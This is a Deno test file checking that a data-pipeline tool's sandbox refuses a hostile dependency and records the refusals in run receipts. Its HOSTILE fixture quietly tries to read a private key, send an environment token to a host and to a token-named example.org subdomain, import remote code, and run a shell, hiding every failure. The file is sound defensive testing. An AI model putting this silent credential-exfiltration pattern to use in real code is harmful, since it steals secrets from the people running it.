import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { join } from "@std/path";
import { openDatabase } from "../../lib/db/mod.ts";
import { launchRun, openPipeline, type PipelineCaller } from "../../lib/pipeline/mod.ts";
import type { Receipt } from "../../lib/pipeline/receipt.ts";
import { granted } from "../_granted.ts";
import { inTempFolder, pipeline, realPipeline, ROOT } from "./_command.ts";
import { everyTest } from "../_sample.ts";

const ignore = !granted("read", "write", "net", "run") || Deno.build.os !== "linux";
const TOKEN = "k3y-of-the-house";

/** What a dependency does that is not what it seems: it hides what it is refused, and its run is complete. */
const HOSTILE = `
const tried = [];
const attempt = async (name, action) => {
  try {
    await action();
    tried.push(name);
  } catch {
    // Nobody is to know.
  }
};
export default {
  describe: () => ({ streams: [{ name: "rows" }], needs: { env: ["HOUSE_TOKEN"] } }),
  async *read({ options: { key, host, dies } }) {
    const token = Deno.env.get("HOUSE_TOKEN");
    const [url, registry] = ["http://" + host + "/code.ts", "npm:left-pad@1.3.0"];
    await attempt("key", () => Deno.readTextFile(key));
    await attempt("post", () => fetch("http://" + host + "/?k=" + token, { method: "POST", body: token }));
    await attempt("name", () => fetch("http://" + token + ".example.org/"));
    await attempt("url", () => import(url));
    await attempt("registry", () => import(registry));
    await attempt("write", () => Deno.writeTextFile(key + ".gone", token));
    await attempt("storage", () => localStorage.setItem("token", token));
    await attempt("cache", () => caches.open(token));
    await attempt("shell", () => new Deno.Command("sh", { args: ["-c", "true"] }).output());
    await attempt("environment", () => Deno.env.get("HOME"));
    if (dies) Deno.kill(Deno.pid, "SIGKILL");
    if (tried.length > 0) throw new Error("nobody refused " + tried);
    yield { records: [{ tried }], end: "all" };
  },
};
`;

const ROWS_MODULE = `
export default {
  describe: () => ({ streams: [{ name: "rows" }] }),
  async *read() {
    yield { records: [{ id: 1 }], end: "all" };
  },
};
`;

everyTest({
  name: "a run is refused nothing, wherever its inputs and outputs are",
  ignore,
  fn: () =>
    inTempFolder(async (folder) => {
      await using server = Deno.serve(
        { port: 0, hostname: "127.0.0.1", onListen: () => {} },
        () => Response.json([{ id: 1 }]),
      );
      for (const name of ["cfg", "drop", "disk", "db"]) await Deno.mkdir(join(folder, name));
      await Deno.writeTextFile(join(folder, "drop/a.csv"), "id\n1\n");
      await Deno.writeTextFile(join(folder, "drop/a.log"), "2026-01-01 00:00:00 INFO x\n");
      await Deno.writeTextFile(join(folder, "rows.ts"), ROWS_MODULE);
      using db = openDatabase(join(folder, "db/shop.db"));
      db.exec("CREATE TABLE t (id INTEGER PRIMARY KEY); INSERT INTO t VALUES (1)");
      const yaml = join(folder, "cfg/p.yaml");
      await Deno.writeTextFile(
        yaml,
        `name: house
lake: ../disk/lake
audit: ../disk/audit.db
log_dir: ../disk/logs
sources:
  - { name: f, type: files, path: ../drop, include: ["*.csv"] }
  - { name: l, type: logs, path: ../drop, include: ["*.log"] }
  - { name: d, type: database, database: "sqlite:../db/shop.db", streams: [{ name: t }] }
  - { name: m, type: module, module: ../rows.ts }
  - name: a
    type: api
    base_url: http://127.0.0.1:${server.addr.port}
    streams: [{ name: t, path: /t, primary_key: [id] }]
`,
      );
      for (const night of [1, 2]) {
        const { code, stderr } = await realPipeline(folder, ["run", "-c", yaml]);
        assertEquals([code, stderr.includes("Refused")], [0, false], `${night}: ${stderr}`);
      }
    }),
});

everyTest({
  name: "a dependency that steals is refused, and the receipt of its run names what it tried",
  ignore,
  fn: () =>
    inTempFolder(async (folder) => {
      let requests = 0;
      await using server = Deno.serve(
        { port: 0, hostname: "127.0.0.1", onListen: () => {} },
        () => new Response(`export default ${++requests}`),
      );
      const host = `127.0.0.1:${server.addr.port}`;
      const key = join(folder, "id_ed25519");
      await Deno.writeTextFile(key, "a private key");
      await Deno.writeTextFile(join(folder, "hostile.js"), HOSTILE);
      const yaml = join(folder, "p.yaml");
      const night = async (dies: boolean) => {
        await Deno.writeTextFile(
          yaml,
          `name: house
sources:
  - name: own
    type: module
    module: hostile.js
    options: { key: ${key}, host: "${host}", dies: ${dies} }
`,
        );
        return await realPipeline(folder, ["run", "--json", "-c", yaml], { HOUSE_TOKEN: TOKEN });
      };
      assertEquals((await night(true)).code, 137);
      const [killed] = receiptsIn(folder);
      assertEquals([killed?.attempts, killed?.exit_code], [1, 137]);
      assertEquals(placesOf(killed?.refused), [
        `read ${key}`,
        `net ${host}`,
        "net ${secret:raw:HOUSE_TOKEN}.example.org:80",
        `import ${host}`,
        `write ${key}.gone`,
        "env HOME",
      ]);
      const { code, stdout, stderr } = await night(false);
      assertEquals(code, 0, `it seems to be complete: ${stderr}`);
      assertStringIncludes(stderr, `Refused to the run: read ${key}, net ${host}, net \${secret:`);
      assertMatch(stderr, /, 3 more; .*\nAll of it: (?:deno task )?headwaters audit show /);
      assertStringIncludes(
        stderr,
        ` -a ${join(folder, "audit.db")} --logs ${join(folder, "logs")}\n`,
      );
      const receipts = receiptsIn(folder);
      const last = receipts.find(({ run_id }) => run_id === JSON.parse(stdout).run_id);
      assertEquals([last?.exit_code, placesOf(last?.refused)], [0, placesOf(killed?.refused)]);
      const touched = placesOf(last?.touched);
      for (const place of [`write ${join(folder, "lake")}`, "env HOUSE_TOKEN"]) {
        assertEquals(touched.includes(place), true, `${place} in ${touched}`);
      }
      assertEquals(requests, 0);
      const manifest = join(folder, `lake/raw/own/rows/_manifests/${last?.run_id}.json`);
      assertEquals(
        JSON.parse(Deno.readTextFileSync(manifest)).receipt,
        `${last?.run_id}.receipt.json`,
      );
      const text = Deno.readTextFileSync(join(folder, "logs", `${last?.run_id}.receipt.json`));
      assert(!text.includes(TOKEN));
      assert(!text.includes("private key"));
    }),
});

everyTest({
  name: "the receipt of a run that has done nothing but its work names nothing refused",
  ignore,
  fn: () =>
    inTempFolder(async (folder) => {
      const own = join(folder, "own");
      await Deno.mkdir(own);
      using db = openDatabase(join(folder, "shop.db"));
      db.run("CREATE TABLE orders (id INTEGER PRIMARY KEY) STRICT");
      db.run("PRAGMA journal_mode = DELETE");
      const yaml = join(own, "p.yaml");
      await Deno.writeTextFile(
        yaml,
        `name: house
sources:
  - { name: shop, type: database, database: "sqlite:../shop.db", streams: [{ name: orders }] }
  - { name: late, type: files, path: ../missing }
`,
      );
      // What is missing is no reason to look around: a database's -wal, a folder.
      const { code, stderr } = await pipeline(own, ["-c", yaml]);
      assertEquals([code, receiptsIn(own).map(({ refused }) => refused)], [1, [[]]]);
      assert(!stderr.includes("Refused"), stderr);
    }),
});

Deno.test({
  name: "a run goes on without a receipt where the runtime cannot report to its writer",
  ignore,
  fn: () =>
    inTempFolder(async (folder) => {
      await Deno.mkdir(join(folder, "drop"));
      const yaml = join(folder, "p.yaml");
      await Deno.writeTextFile(yaml, "name: p\nsources: [{ name: a, type: files, path: drop }]\n");
      const starts: (string | undefined)[] = [];
      const caller: PipelineCaller = {
        cwd: ROOT,
        env: {},
        signal: new AbortController().signal,
        start: (_, { env }) => {
          const { DENO_AUDIT_PERMISSIONS: to } = env;
          starts.push(to?.replace(/\d+/, "PID"));
          // What the runtime answers if it cannot open that.
          return Promise.resolve(to === undefined ? 0 : 1);
        },
      };
      assertEquals(await launchRun(await openPipeline(yaml, caller), { json: false }), 0);
      assertEquals(starts, ["/proc/PID/fd/0", undefined]);
    }),
});

function receiptsIn(folder: string): Receipt[] {
  return [...Deno.readDirSync(join(folder, "logs"))]
    .filter(({ name }) => name.endsWith(".receipt.json"))
    .map(({ name }) => JSON.parse(Deno.readTextFileSync(join(folder, "logs", name))));
}

function placesOf(places: Receipt["refused"] = []): string[] {
  return places.map(({ permission, place }) => `${permission} ${place}`);
}
